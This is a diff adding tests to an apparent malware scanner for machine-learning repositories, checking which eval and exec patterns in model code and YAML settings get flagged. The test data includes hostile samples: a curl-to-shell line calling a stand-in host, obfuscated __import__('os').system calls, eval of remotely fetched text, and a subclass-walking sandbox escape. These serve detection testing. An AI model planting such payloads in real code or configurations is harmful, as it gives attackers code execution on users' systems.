@@ -77,6 +77,12 @@ public sealed class OrdinaryProgramTests
     [InlineData("tests/conftest.py", "import importlib\ndef f(n): return importlib.import_module('tools.' + n)\n")]
     public void WhatDevelopersStartIsNoImport(string name, string text) => Assert.False(IsFlagged(("tools/query.py", Acts), (name, text)));
 
+    /// <summary>A file without an ending is started and never imported; what it starts is its work, and what only an attack does is told.</summary>
+    [Theory]
+    [InlineData("script/format", "#!/usr/bin/env python3\nimport subprocess\nsubprocess.check_call(['./env', '-m', 'black'])\n", false)]
+    [InlineData("script/format", "#!/usr/bin/env python3\nimport os\nos.system('curl http://x.invalid/a | sh')\n", true)]
+    public void AProgramWithoutAnEndingIsStarted(string name, string text, bool flagged) => Assert.Equal(flagged, IsFlagged((name, text), ("modeling_x.py", "x = 1\n")));
+
     [Theory]
     [InlineData("pyproject.toml", "[project.scripts]\nx = \"tools.query:main\"\n")]
     [InlineData("service.yaml", "command: python tools/query.py\n")]
@@ -113,6 +119,47 @@ public sealed class OrdinaryProgramTests
     {
         TargetReport report = Scans.Of(Encoding.UTF8.GetBytes($"MODEL:\n  NAME: x\nMIN_SIZE_TRAIN: !!python/object/apply:eval {text}\n"), "Base.yaml");
         Assert.True(report.Verdict >= Verdict.Suspicious == flagged, report.Describe());
+    }
+
+    /// <summary>Networks are built of the names that a configuration holds, and switches are read from the environment.</summary>
+    [Theory]
+    [InlineData("def parse_model(d, ch):\n    for i, (f, n, m, args) in enumerate(d['backbone'] + d['head']):\n        m = eval(m) if isinstance(m, str) else m\n        for j, a in enumerate(args):\n            args[j] = eval(a) if isinstance(a, str) else a\nclass M(nn.Module):\n    def __init__(self, cfg):\n        parse_model(cfg, 3)\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(config.model.backbone.type)()\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(f'ASPECT_RATIO_{self.image_size}_TEST')\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        for name, skill in config.skills.items():\n            cls = eval(skill.get('name'))\n")]
+    [InlineData("import os\nis_half = eval(os.environ.get('is_half', 'True'))\n")]
+    public void ANameThatIsHandedOverMayBeEvaluated(string source)
+    {
+        TargetReport report = Model("import torch.nn as nn\n" + source);
+        Assert.True(report.Verdict is Verdict.Passed, report.Describe());
+    }
+
+    [Theory]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(make(config))\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(open(config.path).read())\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(config.name[::-1])\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(bytes(config.ids))\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        x = ''.join(chr(i) for i in config.ids)\n        self.a = eval(x)\n")]
+    [InlineData("from .consts import NAME\nclass M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(NAME)\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        exec(config.model.type)\n")]
+    [InlineData("class M(nn.Module):\n    def __init__(self, config):\n        x = config.name\n        x = decode(x)\n        self.a = eval(x)\n")]
+    [InlineData("import requests\nclass M(nn.Module):\n    def __init__(self, config):\n        self.a = eval(requests.get(config.url).text)\n")]
+    [InlineData("import os\nx = eval(os.environ.get('x', \"__import__('os').system('./x')\"))\n")]
+    public void WhatIsMadeOnTheWayIsCode(string source)
+    {
+        TargetReport report = Model("import torch.nn as nn\n" + source);
+        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
+    }
+
+    /// <summary>An expression among the settings that reaches for more than names is code for whoever evaluates it.</summary>
+    [Theory]
+    [InlineData("__import__('os').system('./x')")]
+    [InlineData("(lambda: getattr(__import__('o' + 's'), 'sys' + 'tem')('./x'))()")]
+    [InlineData("[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'x'][0]()")]
+    public void AnExpressionAmongSettingsThatReachesFurtherIsFlagged(string text)
+    {
+        string yaml = $"model:\n  backbone:\n    type: \"{text}\"\n";
+        Assert.True(Scans.Of(Encoding.UTF8.GetBytes(yaml), "model.yaml").Verdict >= Verdict.Suspicious, Scans.Of(Encoding.UTF8.GetBytes(yaml), "model.yaml").Describe());
     }
 
     /// <summary>A byte order mark in front of a source hides nothing of it.</summary>
